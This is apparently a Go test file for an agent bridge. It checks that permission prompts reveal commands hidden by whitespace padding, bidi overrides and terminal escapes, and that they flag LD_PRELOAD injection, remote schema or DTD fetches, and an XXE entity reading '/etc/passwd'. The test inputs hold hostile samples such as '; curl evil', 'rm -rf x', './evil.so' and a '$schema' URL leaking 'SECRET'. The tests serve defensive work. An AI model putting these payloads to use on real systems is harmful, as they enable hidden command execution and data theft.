package bridge

import (
	"strings"
	"testing"
	"unicode"

	"github.com/copilot-bridge/copilot-bridge/acp"
	"github.com/copilot-bridge/copilot-bridge/bridge/policy"
	"github.com/copilot-bridge/copilot-bridge/bridge/tools"
)

func TestTheQuestionShowsWhatRuns(t *testing.T) {
	r := newRig(t, nil, toolTurn).open()
	r.screen.ask = no
	long := "echo start" + strings.Repeat(" ", 10_000) + "; curl evil"
	odd := "echo \u202e; hs | lave # \x1b[2K\r\nrm -rf x"
	r.inTurn(func(l *link) {
		for _, c := range []string{long, odd} {
			l.Bash(r.ctx, caller(), tools.BashArgs{Command: c, Mode: tools.BashSync}, nil)
		}
		r.theSession().createTerminal(r.ctx, &acp.CreateTerminalRequest{Command: "ls", Args: []string{"a b", "", "-la"}, Env: []acp.EnvVariable{
			{Name: "LD_PRELOAD", Value: "/first.so"}, {Name: "PLAIN", Value: "x"}, {Name: "LD_PRELOAD", Value: "./evil.so\x1b]52;c;x\x07"},
		}})
	})
	q := r.screen.questions()
	if len(q) != 3 {
		t.Fatalf("asked %d times", len(q))
	}
	if !strings.Contains(q[0].Title, "; curl evil") || len(q[0].Title) > 200 || q[0].Argv[2] != long || !strings.Contains(strings.Join(q[0].Notes, " "), "10000 blanks") {
		t.Errorf("%.300s %v", q[0].Title, q[0].Notes)
	}
	if want := `Run echo <U+202E>; hs | lave # <U+001B>[2K␍⏎rm -rf x`; q[1].Title != want {
		t.Errorf("%q, want %q", q[1].Title, want)
	}
	if q[2].Title != `Run ls "a b" "" -la` || len(q[2].Env) != 2 || !strings.Contains(q[2].Env[1].Value+q[2].Env[0].Value, "evil.so<U+001B>") || !strings.Contains(strings.Join(q[2].Notes, " "), "LD_PRELOAD") {
		t.Errorf("%+v", q[2])
	}
	for _, q := range q {
		shown := append([]string{q.Title, q.Reason, q.Cwd, *q.ToolCall.Title}, append(q.Argv, q.Notes...)...)
		for _, e := range q.Env {
			shown = append(shown, e.Name, e.Value)
		}
		for _, text := range shown {
			if strings.ContainsFunc(text, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) }) {
				t.Errorf("shown as it is: %q", text)
			}
		}
		if q.Options[0].Kind != acp.PermissionOptionKindRejectOnce || len(q.Options) > 3 {
			t.Errorf("the options are %+v", q.Options)
		}
	}
}

func TestTheQuestionPointsAtWhatCannotBeSeen(t *testing.T) {
	for name, c := range map[string]struct{ old, text, want string }{
		"remote $schema":   {"{}", `{"$schema":"https://evil/?d=SECRET"}`, "https://evil/?d=SECRET"},
		"yaml":             {"", "# yaml-language-server: $schema=http://evil/x\na: 1\n", "http://evil/x"},
		"doctype":          {"", `<!DOCTYPE a SYSTEM "http://evil/a.dtd"><a/>`, "http://evil/a.dtd"},
		"entity":           {"", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, "file:///etc/passwd"},
		"schemaLocation":   {"", `<a xsi:schemaLocation="urn:x http://evil/x.xsd"/>`, "http://evil/x.xsd"},
		"taplo":            {"", "#:schema https://evil/x.json\n", "https://evil/x.json"},
		"network path":     {"", `{"$schema":"\\\\evil\\share"}`, `\\evil`},
		"it was there":     {`{"$schema":"https://known/x"}`, `{"$schema":"https://known/x","a":1}`, ""},
		"local":            {"", `{"$schema":"./x.json"}`, ""},
		"an ordinary link": {"", "see https://example.com\n", ""},
		"turned around":    {"", "if a {\n// \u202e } \u2066if admin\u2069", "<U+202E> in line 2"},
		"zero width":       {"", "a\u200bb", "<U+200B> in line 1"},
		"it had them":      {"\u202e", "\u202e x", ""},
	} {
		q := Question{Title: "Edit", Diffs: []FileDiff{{Path: "/w/a", OldText: c.old, NewText: c.text}}}
		q.present()
		if got := strings.Join(q.Notes, "; "); !strings.Contains(got, c.want) || (c.want == "") != (got == "") {
			t.Errorf("%s: the notes are %q, want %q", name, got, c.want)
		}
		if q.Diffs[0].NewText != c.text {
			t.Errorf("%s: the text itself was changed", name)
		}
	}
}

func TestOptionsAreOurs(t *testing.T) {
	r := newRig(t, nil, hello+`
expect session/prompt
request session/request_permission {"sessionId":"s1","toolCall":{"toolCallId":"c","title":"Tool"},"options":[
	{"optionId":"evil","name":"Allow","kind":"reject_once"},{"optionId":"x","name":"","kind":"allow_always"},{"optionId":"y","name":"No, thanks","kind":"allow_once"}]}
answer {"outcome":{"outcome":"selected","optionId":"evil"}}
reply {"stopReason":"end_turn"}`).open()
	r.screen.ask = no
	r.run("go")
	for _, o := range r.screen.questions()[0].Options {
		if want := map[acp.PermissionOptionKind]string{"reject_once": "Reject", "allow_once": "Allow once"}[o.Kind]; o.Name != want {
			t.Errorf("%s is named %q", o.Kind, o.Name)
		}
	}
}

func FuzzQuestion(f *testing.F) {
	for _, s := range []string{"", "a\nb", "\x1b[2J", "\u202ea", "a\u0000", "{\"command\":\"a\\u0000b\"}", "\xff", strings.Repeat(" ", 20)} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		q := Question{Title: text, Argv: []string{text}, Diffs: []FileDiff{{NewText: text}}, Env: []policy.EnvVar{{Name: text}}, Notes: []string{text}}
		q.present()
		if strings.ContainsFunc(q.Title+strings.Join(q.Argv, "")+strings.Join(q.Notes, ""), unicode.IsControl) {
			t.Fatalf("shown as it is: %q %q %q", q.Title, q.Argv, q.Notes)
		}
	})
}
